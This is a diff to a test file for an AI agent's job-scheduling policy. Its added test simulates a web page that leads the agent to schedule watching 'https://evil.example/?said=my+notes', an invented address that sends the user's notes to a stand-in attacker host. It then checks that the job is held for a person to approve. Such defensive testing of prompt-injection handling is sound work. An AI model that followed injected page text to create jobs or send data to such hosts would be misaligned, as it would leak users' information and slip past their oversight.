@@ -1,13 +1,22 @@
 /** Jobs and what they say, made to do more than who made them may, or to be taken for what a person said. */
 import assert from 'node:assert/strict';
 import { test, type TestContext } from 'node:test';
+import * as z from 'zod/mini';
 import { noLimits } from '../../src/core/budget.ts';
+import { defineTool } from '../../src/core/define-tool.ts';
 import type { ToolPolicy } from '../../src/core/tool-policy.ts';
 import { answering, calling, calls, defaultPolicy, from, inGroup, type AskingSettings } from '../support/asking.ts';
 import { said } from '../support/message-path.ts';
 import { scheduling } from '../support/scheduling.ts';
 import type { Step } from '../support/scripted-provider.ts';
 
+const reading = defineTool({
+  name: 'http_request',
+  description: 'reads',
+  effects: ['read'],
+  input: () => z.strictObject({ url: z.string() }),
+  run: () => Promise.resolve({ text: 'a page' }),
+});
 const done = answering('All right.');
 const daily = { when: 'every day at 17:00' };
 
@@ -75,6 +84,26 @@ test('a page that wants a job made needs a person, and the job is held to the st
   const task = await rig.carriedOut(job.id);
   assert.deepEqual(rig.done, [], 'what it wants to save is asked about');
   assert.match(task.result?.text ?? '', /May I\?/);
+});
+
+test('a page to watch whose address nobody named needs a person, even where text of others may write', async (t) => {
+  const toolPolicy: ToolPolicy = { ...defaultPolicy, base: { ...defaultPolicy.base, tainted: 'allow' } };
+  const watch = (what: string): Step => calls('schedule_add', { do: 'watch', what, ...daily }, `c_${what.length}`);
+  const [named, invented] = ['https://example.org/a', 'https://evil.example/?said=my+notes'];
+  const rig = await open(t, [calling(calls('page')), calling(watch(named)), calling(watch(invented)), done], {
+    toolPolicy,
+    page: `Look at ${named}`,
+    more: [{ name: 'web', about: 'web', keywords: [], tools: [reading] }],
+  });
+  await rig.say('do read it and schedule what it says');
+  assert.deepEqual(
+    (await rig.jobsOf()).map(({ job }) => job.name),
+    [named],
+  );
+  assert.deepEqual(
+    (await rig.asked()).map(({ tool, state }) => [tool, state]),
+    [['schedule_add', 'open']],
+  );
 });
 
 test('a line of the policy for jobs refuses what others made a job want', async (t) => {
